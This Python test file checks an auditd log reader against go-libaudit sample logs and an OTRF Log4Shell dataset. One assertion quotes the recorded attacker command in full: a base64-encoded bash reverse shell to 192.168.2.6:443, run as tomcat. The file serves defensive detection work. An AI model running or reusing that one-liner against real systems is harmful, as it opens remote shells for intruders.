"""The auditd reader on go-libaudit's real audit logs and the OTRF Log4Shell AUOMS rows.

Counts are computed here with plain regular expressions / JSON; go-libaudit's ``aucoalesce`` golden
events (its own normalization of each test's records) are the oracle for the mapped columns where
they say the same thing.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pyarrow as pa
import pytest

from sekimori.ingest.readers.auditd import AuditdReader
from tests.conftest import corpus, read_all

pytestmark = pytest.mark.corpus

STAMP = re.compile(r"^(?:node=(\S+) )?type=\S+ msg=audit\((\d+\.\d+:\d+)\)")
AUCOALESCE = [
    "aucoalesce-random-internet",
    "aucoalesce-rhel-7-linux-3.10.0",
    "aucoalesce-ubuntu-16.04-linux-4.13.0",
    "aucoalesce-ubuntu-16.10-linux-4.8.0",
    "aucoalesce-ubuntu-17.04-linux-4.10.0",
    "aucoalesce-ubuntu-20.04.6-linux-5.15.0-1034-gcp",
    "aucoalesce-ubuntu-21.10-linux-5.13",
    "aucoalesce-ubuntu-24.04-linux-6.8.0",
]
OTHERS = [
    "auparse-audit-rhel6",
    "auparse-audit-rhel7",
    "auparse-audit-ubuntu14",
    "auparse-audit-ubuntu16",
    "auparse-audit-ubuntu17",
    "auparse-test2",
    "auparse-test3",
    "reassembler-normal",
]
LOG4SHELL = (
    "identity-cloud",
    "auditd",
    "otrf-Log4Shell",
    "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip",
)


def _lib(name: str, ext: str = ".log") -> Path:
    return corpus("identity-cloud", "auditd", "go-libaudit", name + ext)


def _rows(table: pa.Table) -> dict[int, dict]:
    return {row["record_id"]: row for row in table.to_pylist()}


@pytest.mark.parametrize("name", AUCOALESCE + OTHERS)
def test_every_record_is_in_an_event_or_quarantined(name):
    lines = [ln for ln in _lib(name).read_text().splitlines() if ln.strip()]
    stamps = [STAMP.match(ln) for ln in lines]
    events = {(m[1], m[2]) for m in stamps if m}
    table, (q,) = read_all(AuditdReader, _lib(name))
    assert table.num_rows == len(events)
    assert len(q) == sum(1 for m in stamps if m is None)
    first_lines = {}
    for number, m in enumerate(stamps, start=1):
        if m:
            first_lines.setdefault((m[1], m[2]), number)
    assert sorted(table["record_id"].to_pylist()) == sorted(first_lines.values())
    assert table["time"].null_count == 0 and table["raw"].null_count == 0


@pytest.mark.parametrize("name", AUCOALESCE)
def test_one_event_per_go_libaudit_test(name):
    tests = [json.loads(ln) for ln in _lib(name, ".tests.jsonl").read_text().splitlines()]
    table, _ = read_all(AuditdReader, _lib(name))
    assert sorted(table["record_id"].to_pylist()) == sorted(t["first_line"] for t in tests)
    rows = _rows(table)
    text = _lib(name).read_text().splitlines()
    for t in tests:  # every record of the test is in its event's raw
        raw = json.loads(rows[t["first_line"]]["raw"])
        records = sum(len(v) if isinstance(v, list) else 1 for k, v in raw.items() if k.isupper())
        lines = text[t["first_line"] - 1 : t["first_line"] - 1 + t["n_lines"]]
        assert records == sum(1 for ln in lines if not ln.startswith("type=EOE"))


def _golden(name: str) -> list[tuple[dict, dict]]:
    """(row, go-libaudit event) per test."""
    tests = {
        json.loads(ln)["test"]: json.loads(ln) for ln in _lib(name, ".tests.jsonl").read_text().splitlines()
    }
    gold = json.loads(_lib(name, ".golden.json").read_text())
    rows = _rows(read_all(AuditdReader, _lib(name))[0])
    return [(rows[tests[g["test_name"]]["first_line"]], g["event"]) for g in gold]


@pytest.mark.parametrize("name", AUCOALESCE)
def test_mapped_columns_agree_with_go_libaudit_normalization(name):
    checked = 0
    for row, ev in _golden(name):
        proc = ev.get("process", {})
        if "exe" in proc:
            assert row["process"] == proc["exe"]
            checked += 1
        if "pid" in proc:
            assert row["process_id"] == int(proc["pid"])
        if row["category"] == "process":
            assert row["command_line"] == " ".join(proc["args"])
            checked += 1
        elif "title" in proc and ev["record_type"] != "execve":
            assert row["command_line"] == proc["title"]
        assert row["outcome"] == {"success": "success", "fail": "failure"}.get(ev.get("result"))
        if row["category"] == "network" and row["activity"] == "connect":
            assert (row["target_ip"], str(row["target_port"])) == (
                ev["destination"]["ip"],
                ev["destination"]["port"],
            )
            checked += 1
        if "source" in ev and row["category"] in ("authentication", "network"):
            assert row["src_ip"] == ev["source"]["ip"]
            checked += 1
        actor = ev["summary"]["actor"]
        if (
            row["category"] == "authentication"
            and "secondary" in actor
            and row["event_code"].startswith("USER_")
        ):
            # go-libaudit's secondary actor of a user-space record is its acct (or id); where the
            # record names no account (acct "?" / "(invalid user)") we say null, it says the uid or text
            acct = json.loads(row["raw"])[row["event_code"]].get("acct")
            expected = None if acct in ("?", "(invalid user)") else actor["secondary"]
            assert row["principal"] == expected
            checked += 1
        elif row["category"] != "authentication" and "UID" not in row["raw"]:
            # kernel events: the login uid when set (go-libaudit's primary actor), else the uid
            expected = actor.get("secondary") if actor["primary"] == "unset" else actor["primary"]
            assert row["principal"] == expected
            checked += 1
    assert checked > 0


def test_log4shell_auoms_rows():
    path = corpus(*LOG4SHELL)
    with zipfile.ZipFile(path) as zf:
        (member,) = zf.namelist()
        rows = [json.loads(ln) for ln in zf.read(member).decode().splitlines() if ln.strip()]
    table, (q,) = read_all(AuditdReader, path)
    assert table.num_rows == len(rows) and len(q) == 0
    execs = [r for r in rows if r["SyslogMessage"].startswith("type=AUOMS_EXECVE ")]
    assert table["event_code"].to_pylist().count("AUOMS_EXECVE") == len(execs)
    by_line = _rows(table)
    # line 6, by hand: the JNDI payload's shell (base64 reverse shell to 192.168.2.6:443)
    six = by_line[6]
    assert six["process"] == "/bin/bash"
    assert six["command_line"] == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"'
    )
    assert (six["principal"], six["host"], six["process_id"], six["outcome"]) == (
        "tomcat",
        "UBUNTU5",
        17790,
        "success",
    )
    assert (six["category"], six["ocsf_class_uid"], six["ocsf_class_name"]) == (
        "process",
        1007,
        "Process Activity",
    )
    assert json.loads(six["raw"])["envelope"]["HostIP"] == "192.168.2.5"
    # line 1: exec of /usr/local/sbin/bash failed (ENOENT): no new command line, the path is the object
    one = by_line[1]
    assert (one["outcome"], one["status"], one["command_line"], one["object"]) == (
        "failure", "-2", None, "/usr/local/sbin/bash"
    )  # fmt: skip


def test_sshd_and_sudo_records_by_hand():
    rows = _rows(read_all(AuditdReader, _lib("auparse-audit-rhel7"))[0])
    # line 33: USER_AUTH … op=pubkey_auth rport=63927 acct="andrew_kroh" … addr=96.241.146.97 … res=success
    auth = rows[33]
    assert (auth["principal"], auth["src_ip"], auth["src_port"]) == ("andrew_kroh", "96.241.146.97", 63927)
    assert (auth["auth_package"], auth["action"], auth["outcome"]) == ("publickey", "pubkey_auth", "success")
    # line 34: USER_CMD auid=1000 msg='cwd="/home/andrew_kroh" cmd=2E2F6D65… terminal=pts/0 res=success'
    assert (rows[34]["principal"], rows[34]["command_line"]) == ("1000", "./metricbeat -c mb.dev.yml")
    # lines 10, 15, 19: CWD, EXECVE and PATH of event 479 are far apart (the file is sorted by type)
    joined = json.loads(rows[10]["raw"])
    assert (joined["CWD"]["cwd"], joined["PATH"][0]["name"]) == ("/home/andrew_kroh", "/sbin/auditctl")
    assert rows[10]["command_line"] == "auditctl -a exit,always -F arch=b32 -S execve"
    rhel6 = _rows(read_all(AuditdReader, _lib("auparse-audit-rhel6"))[0])
    assert rhel6[2]["command_line"] == "/usr/lib64/nagios/plugins/check_asterisk_sip_peers -p 107"
    assert rhel6[1]["process"] == "/usr/libexec/strongswan/charon (deleted)"
